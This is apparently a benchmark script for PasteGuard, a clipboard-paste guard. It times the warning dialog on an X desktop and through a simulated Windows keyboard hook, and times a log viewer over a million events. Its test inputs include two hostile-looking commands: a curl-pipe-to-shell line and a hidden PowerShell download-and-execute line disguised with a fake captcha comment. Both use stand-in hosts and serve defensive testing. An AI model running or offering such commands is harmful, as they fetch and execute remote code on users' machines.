"""Desktop UI figures: the warning up and focused after Ctrl+V, the log viewer at full capacity.

The warning is timed twice: end to end on a real X desktop (Xvfb + openbox, the guard as a
process, xterm in front, Ctrl+V by xdotool) and in-process from the keyboard hook's message
to the dialog being shown: the Windows backend's translation of the raw hook message (with
a fake user32), the guard's service, and the signal across to the Qt thread. The viewer runs
in-process on the offscreen platform over as many events as the store keeps by default
(1,000,000), built like the event-store benchmark's.
"""

from __future__ import annotations

import os
import statistics
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from app.config.model import Settings
from app.platform.win32.api import VK_CONTROL
from app.platform.win32.backend import Win32Backend
from app.platform.win32.keymap import WM_KEYDOWN, WM_KEYUP
from app.storage import EventStore
from bench.report import Result, met, table
from bench.store import build_big
from tests.desktop import BIN, Desktop, desktop, wait_for
from tests.fakes import FakeWin32Api

WARNING_TARGET_MS = 200.0
OPEN_TARGET_MS = 1000.0
FILTER_TARGET_MS = 100.0
EVENTS = Settings().max_events  # the store's default capacity: a full log
ROUNDS = 15  # warnings on the real desktop
LOCAL_ROUNDS = 30  # warnings in-process
PAGES = 30  # pages scrolled
SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install-{n}.sh | sh"
MALICIOUS = (
    'powershell -w h -c "iwr https://x.example/a.ps1 | iex"' + " " * 60 + "# I am not a robot"
)
KEPT_CASE = "+ level = malicious, the same search"
COUNTING = "Counting…"  # the viewer's count label until the count comes back
VK_LCONTROL, VK_V = 0xA2, 0x56  # left Ctrl as a low-level hook reports it; V


def _ms(seconds: float) -> str:
    return f"{seconds * 1000:.0f} ms"


def _p95(values: list[float]) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(0.95 * (len(ordered) - 1)))]


# -- the warning on a real X desktop --------------------------------------------------------


def _active_name(d: Desktop) -> str:
    return d.run("xdotool", "getactivewindow", "getwindowname", timeout=5).stdout.strip()


def _warning_on_x(tmp: Path) -> list[float]:
    """Seconds from Ctrl+V (xdotool, into xterm) to the warning being the active window."""
    data = tmp / "data"
    times: list[float] = []
    with desktop() as d, (tmp / "guard.log").open("wb") as log:
        d.env.update(PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"), PASTEGUARD_POLICY=str(tmp / "none"))
        d.start(
            str(BIN / "pasteguard"),
            "run",
            "--no-tray",
            "--data-dir",
            str(data),
            stdout=log,
            stderr=log,
        )
        wait_for(
            lambda: (
                d.run(str(BIN / "pasteguard"), "status", "--data-dir", str(data)).returncode == 0
            ),
            timeout=30,
            step=0.1,
        )
        paste_key = "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: " + (
            "insert-selection(CLIPBOARD)"
        )
        d.start("xterm", "-xrm", paste_key, "-e", "bash", "--norc", stderr=subprocess.DEVNULL)
        wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)
        for n in range(ROUNDS):
            d.set_clipboard(SUSPICIOUS.format(n=n))
            time.sleep(0.4)  # the verdict is ready long before a person could paste
            d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
            begin = time.monotonic()
            d.run("xdotool", "key", "ctrl+shift+v")
            wait_for(lambda: "PasteGuard warning" in _active_name(d), timeout=5, step=0.0)
            times.append(time.monotonic() - begin)
            d.run("xdotool", "key", "Escape")
            wait_for(lambda: "PasteGuard warning" not in _active_name(d), timeout=5, step=0.01)
    return times


# -- in-process: the guard, the warning and the viewer --------------------------------------


@contextmanager
def _profile(tmp: Path) -> Iterator[None]:
    """A private profile and the offscreen platform for the in-process part."""
    saved = {
        k: os.environ.get(k)
        for k in (
            "PASTEGUARD_CONFIG_DIR",
            "PASTEGUARD_POLICY",
            "PASTEGUARD_BACKEND",
            "QT_QPA_PLATFORM",
        )
    }
    os.environ.update(
        PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"),
        PASTEGUARD_POLICY=str(tmp / "policy.toml"),
        PASTEGUARD_BACKEND="none",
    )
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    (tmp / "policy.toml").write_text('mode = "warn"\n', encoding="utf-8")
    try:
        yield
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


def _qt() -> Any:
    from PySide6.QtWidgets import QApplication

    from ui.refcounts import keep_alive

    app = QApplication.instance() or QApplication([])
    keep_alive(app)  # WORKAROUND for PySide6 6.12.0: see ui/refcounts.py
    return app


def _pump_until(check: Callable[[], bool], timeout: float = 5.0) -> None:
    qt = _qt()
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise TimeoutError("the UI did not get there in time")
        qt.processEvents()
        time.sleep(0.0002)  # an event loop waits for events; spinning flat out is no measure


def _warning_local(tmp: Path) -> tuple[list[float], list[float]]:
    """Seconds from the keyboard hook's Ctrl+V message to the dialog shown, and to its outcome
    line ("PasteGuard stopped the paste"), which waits for a late OS answer (STATUS_HOLD_MS).

    The Windows backend translates the raw messages (WM_KEYDOWN, virtual-key codes, the
    modifier state read from the system) on a thread of its own, as the hook thread would;
    user32 is a fake with the Run dialog in front.
    """
    from PySide6.QtCore import QMimeData
    from PySide6.QtGui import QClipboard, QGuiApplication

    from ui.application import GuardApp

    qt = _qt()
    guard = GuardApp(qt, tmp / "guard-data", use_tray=False)
    user32 = FakeWin32Api()
    user32.focus(user32.add_window("#32770", "Run", r"C:\Windows\explorer.exe"))
    backend = Win32Backend(user32)
    guard.backend = backend
    guard.service.can_suppress_keys = True
    guard.service.foreground = backend.foreground_window
    backend.start(guard.service.on_key, guard.service.on_mouse)
    hook = user32.listener
    assert hook is not None
    times: list[float] = []
    outcome: list[float] = []
    try:
        for n in range(LOCAL_ROUNDS):
            data = QMimeData()
            data.setText(MALICIOUS + f" {n}")
            data.setData("chromium/x-source-url", b"https://captcha.example/verify")
            QGuiApplication.clipboard().setMimeData(data, QClipboard.Mode.Clipboard)
            qt.processEvents()
            guard.service.process_pending()

            def ctrl_v() -> None:
                hook.send(WM_KEYDOWN, VK_LCONTROL)
                user32.held.add(VK_CONTROL)  # GetAsyncKeyState answers for either Ctrl
                hook.send(WM_KEYDOWN, VK_V)  # swallowed: the warning takes over
                hook.send(WM_KEYUP, VK_V)
                user32.held.discard(VK_CONTROL)
                hook.send(WM_KEYUP, VK_LCONTROL)

            begin = time.perf_counter()
            threading.Thread(target=ctrl_v).start()
            # visible, activation asked for (the offscreen platform activates a window on its
            # first showing only; the real desktop row above times the activation itself)
            _pump_until(guard.warning.isVisible)
            times.append(time.perf_counter() - begin)
            _pump_until(lambda: bool(guard.warning.status.text()))
            outcome.append(time.perf_counter() - begin)
            guard.warning.reject()  # Esc: keep me safe
            guard.service.process_pending()
            qt.processEvents()
    finally:
        backend.stop()
        guard.stop()
        # the clipboard owns the QMimeData made here; freed after Python is gone, it crashes
        QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)
    return times, outcome


# For a developer's repeated runs only: a folder where the big store is built once and then
# reused (`make bench` leaves it unset and builds a fresh store every time).
REUSE_ENV = "PASTEGUARD_BENCH_VIEWER_STORE"


def _big_store(folder: Path) -> Path:
    """EVENTS events over the year up to now, so the chart's recent bars hold some; the
    folder they are in (REUSE_ENV's, if set and built already)."""
    reuse = os.environ.get(REUSE_ENV)
    if reuse:
        folder = Path(reuse)
        if (folder / "events.db").exists():
            return folder
    build_big(folder, EVENTS, end=datetime.now(UTC))
    return folder


def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
    from ui.viewer.window import ViewerWindow

    qt = _qt()
    rows: list[list[object]] = []
    begin = time.perf_counter()
    folder = _big_store(folder)
    opened = time.perf_counter()
    store = EventStore.open(folder, verify=False)  # as `pasteguard viewer` opens it
    window = ViewerWindow(store, allow_delete=True)
    window.show()
    _pump_until(lambda: not window.stats_pending, timeout=60)
    window.repaint()
    shown = time.perf_counter()
    total = store.count()
    rows.append(
        [
            "open: store, window, first page, count and chart painted",
            _ms(shown - opened),
            f"≤ {OPEN_TARGET_MS:.0f} ms",
            met((shown - opened) * 1000 <= OPEN_TARGET_MS),
        ]
    )
    filters = window.filters
    cases: list[tuple[str, Callable[[], None]]] = [
        ("level = malicious", lambda: filters.level.setCurrentIndex(1)),
        ("level = suspicious or worse", lambda: filters.level.setCurrentIndex(2)),
        ("+ kind = paste warned", lambda: filters.select(filters.kind, "paste_warned")),
        ("+ target = terminal", lambda: filters.select(filters.target, "terminal")),
        ("last 7 days, any level/kind/target", lambda: _set(filters, period=7.0)),
        ("search a common word (`powershell`)", lambda: _set(filters, text="powershell")),
        (KEPT_CASE, lambda: filters.level.setCurrentIndex(1)),
        ("+ kind = paste warned, target = terminal", lambda: _narrow(filters)),
        ("search a rare string (`ID: 4242 `)", lambda: _set(filters, text="ID: 4242 ")),
        ("search a string found nowhere", lambda: _set(filters, text="no-such-text-anywhere")),
        ("back to everything", lambda: _set(filters)),
    ]
    kept: list[int] = []
    window.stats.kept.connect(kept.append)
    worst_table = worst_all = 0.0
    for name, change in cases:
        if name == KEPT_CASE:  # as a person looks at the chart: its counts are kept meanwhile
            begin_keep = time.perf_counter()
            _pump_until(lambda: window.generation in kept, timeout=120)
            rows.append(
                [
                    "… then its matches per day counted again in the background and kept "
                    "(the viewer is idle)",
                    _ms(time.perf_counter() - begin_keep),
                    "",
                    "n/a",
                ]
            )
        start = time.perf_counter()
        change()  # the table is refilled at once; the count and chart come from their thread
        window.table.viewport().repaint()
        painted = time.perf_counter()
        _pump_until(lambda: window.count_label.text() != COUNTING, timeout=60)
        window.count_label.repaint()
        counted = time.perf_counter()
        _pump_until(lambda: window.chart_generation == window.generation, timeout=60)
        window.chart.repaint()
        drawn, partial = time.perf_counter(), window.chart.uncounted
        _pump_until(lambda: not window.stats_pending, timeout=60)
        window.chart.repaint()
        done = time.perf_counter()
        worst_table = max(worst_table, painted - start)
        worst_all = max(worst_all, done - start)
        table_ms, count_ms, all_ms = (
            (painted - start) * 1000,
            (counted - start) * 1000,
            (done - start) * 1000,
        )
        shown_count = window.count_label.text().replace(" events match", "")
        rows.append(
            [
                f"filter: {name} ({window.model.rowCount()} shown, {shown_count} counted)",
                f"{all_ms:.0f} ms (table {table_ms:.0f} ms, count {count_ms:.0f} ms)",
                f"≤ {FILTER_TARGET_MS:.0f} ms",
                met(all_ms <= FILTER_TARGET_MS),
            ]
        )
        if partial:  # the chart was drawn before it was complete, saying so
            rows.append(
                [
                    f"… its first bars, drawn as counted so far and labelled so "
                    f"({window.chart.bins.count - partial} of {window.chart.bins.count})",
                    f"{(drawn - start) * 1000:.0f} ms",
                    f"≤ {FILTER_TARGET_MS:.0f} ms",
                    met((drawn - start) * 1000 <= FILTER_TARGET_MS),
                ]
            )
    laps = []
    for _ in range(PAGES):
        start = time.perf_counter()
        window.table.scrollToBottom()
        qt.processEvents()  # Qt asks canFetchMore/fetchMore and paints the new rows
        laps.append(time.perf_counter() - start)
    scroll_p95 = _p95(laps)
    where = f"p95 of {PAGES}, to row {window.model.rowCount():,}"
    rows.append(
        [
            f"scroll: the next page at the bottom ({where})",
            f"{_ms(scroll_p95)} (median {_ms(statistics.median(laps))}, max {_ms(max(laps))})",
            f"≤ {FILTER_TARGET_MS:.0f} ms",
            met(scroll_p95 * 1000 <= FILTER_TARGET_MS),
        ]
    )
    window.close()
    store.close()
    notes = [
        f"A store of {total:,} events over the year up to now (the event-store benchmark's "
        f"fill), opened as `pasteguard viewer` opens it; building it took "
        f"{opened - begin:.1f} s and is not counted"
        + (f" (built earlier, reused from ${REUSE_ENV})" if os.environ.get(REUSE_ENV) else "")
        + ". Offscreen Qt platform, window 1180×760.",
        "A filter refills the table with its first page at once; the count and the chart (bars "
        "that fit the filter's range: weeks for all time) are read on the viewer's stats "
        "thread and drawn when they come back, so they never delay the table. A person waits "
        "for all three, so a filter is judged on the time until the chart is drawn; in "
        "brackets when the table and the count were shown. Without a free-text search the "
        "count and chart come from the store's summary tables (events per day and hour). A "
        'free-text search is counted up to 10,000 ("More than 10,000 events match"); its '
        "chart counts every match: through the store's trigram index (see the event-store "
        "section) for a string on few events, and for a word on many a bar at a time, newest "
        "first: the whole UTC days of a bar whose every summary or rule list holds the word "
        "from the store's events per day and template (no event read; the rest of the bar, "
        "less than a day at each end, read directly), any other bar a part at a time, each "
        "part checked exactly; the bars counted so far are drawn "
        "after its first step and then every 250 ms, the rest hatched and the title saying it is "
        "still counting, until the complete chart replaces them (the row starting with … "
        "times the first such drawing). Once the chart is complete, the viewer counts the word's "
        "matches per day once more in the background and keeps them in memory, so the same "
        "search with another level, kind, target or period is charted from them (the days "
        "that lost events since are counted again, the newest events and the hours a bar "
        "shares with a day are read directly); the benchmark waits for that, as a person "
        "looking at the chart would, before the next filter. Typing waits 300 ms first, "
        "which is not counted.",
        f"Worst filter: table {_ms(worst_table)}, with count and chart {_ms(worst_all)}.",
    ]
    return rows, notes


def _narrow(filters: Any) -> None:
    """Level back to any, kind paste warned and target terminal: one filter change."""
    filters.blockSignals(True)
    filters.level.setCurrentIndex(0)
    filters.select(filters.kind, "paste_warned")
    filters.select(filters.target, "terminal")
    filters.blockSignals(False)
    filters.changed.emit()


def _set(filters: Any, period: float | None = None, text: str = "") -> None:
    """Everything back to "any", then `period` and `text`: one filter change, as a person's."""
    filters.blockSignals(True)
    for box in (filters.level, filters.kind, filters.target):
        box.setCurrentIndex(0)
    filters.select(filters.period, period)
    filters.search.setText(text)
    filters.stop()  # the typing pause is the person's, not the program's
    filters.blockSignals(False)
    filters.changed.emit()


def run_viewer() -> list[Result]:
    """The log viewer alone (`python -m bench ui.viewer`)."""
    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-ui-") as tmp:
        root = Path(tmp)
        with _profile(root):
            viewer_rows, viewer_notes = _viewer(root / "viewer")
    return [
        Result(
            f"Desktop UI: the log viewer over {EVENTS:,} events",
            table(["measurement", "value", "target", "met?"], viewer_rows, "lllc"),
            viewer_notes,
        )
    ]


def run() -> list[Result]:
    """The warning, on a real X desktop and in-process."""
    from ui.warning.dialog import STATUS_HOLD_MS

    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-ui-") as tmp:
        root = Path(tmp)
        (root / "x").mkdir()
        on_x = _warning_on_x(root / "x")
        with _profile(root):
            local, outcome = _warning_local(root)
    x_p95, local_p95, outcome_p95 = _p95(on_x), _p95(local), _p95(outcome)
    warning_rows = [
        [
            "warning, real X desktop: Ctrl+V → active window, p95",
            f"{_ms(x_p95)} (median {_ms(statistics.median(on_x))}, max {_ms(max(on_x))})",
            f"≤ {WARNING_TARGET_MS:.0f} ms",
            met(x_p95 * 1000 <= WARNING_TARGET_MS),
        ],
        [
            "warning, in-process: hook call → dialog shown, p95",
            f"{_ms(local_p95)} (median {_ms(statistics.median(local))}, max {_ms(max(local))})",
            f"≤ {WARNING_TARGET_MS:.0f} ms",
            met(local_p95 * 1000 <= WARNING_TARGET_MS),
        ],
        [
            "warning, in-process: hook call → its outcome line (stopped), p95",
            f"{_ms(outcome_p95)} (median {_ms(statistics.median(outcome))}, "
            f"max {_ms(max(outcome))})",
            f"≤ {WARNING_TARGET_MS:.0f} ms",
            met(outcome_p95 * 1000 <= WARNING_TARGET_MS),
        ],
    ]
    headers = ["measurement", "value", "target", "met?"]
    return [
        Result(
            "Desktop UI: the warning",
            table(headers, warning_rows, "lllc"),
            [
                f"Real desktop: Xvfb + openbox, the guard as a process (`pasteguard run "
                f"--no-tray`, X11 backend: it holds the clipboard and refuses the paste), xterm in "
                f"front; {ROUNDS} suspicious texts pasted with `xdotool key ctrl+shift+v`, timed "
                "from launching xdotool to `xdotool getactivewindow` naming the warning (polled "
                "back to back, each poll a few ms), then Esc. In-process: "
                f"{LOCAL_ROUNDS} malicious texts in warn mode, the Run dialog in front; a thread "
                "plays the low-level hook's messages for Ctrl+V into the Windows backend (which "
                "translates them and calls the guard), and the Qt loop runs until the dialog is "
                "shown (filled, raised, activation asked for; the offscreen platform activates a "
                "window only when first shown), then until its outcome line says the paste was "
                f"stopped: that line waits {STATUS_HOLD_MS} ms for a hook or tap answer the OS "
                "reports as late (ui/warning/dialog.py), so it never says stopped first.",
            ],
        ),
    ]


if __name__ == "__main__":  # pragma: no cover
    for result in [*run(), *run_viewer()]:
        print(result.markdown())
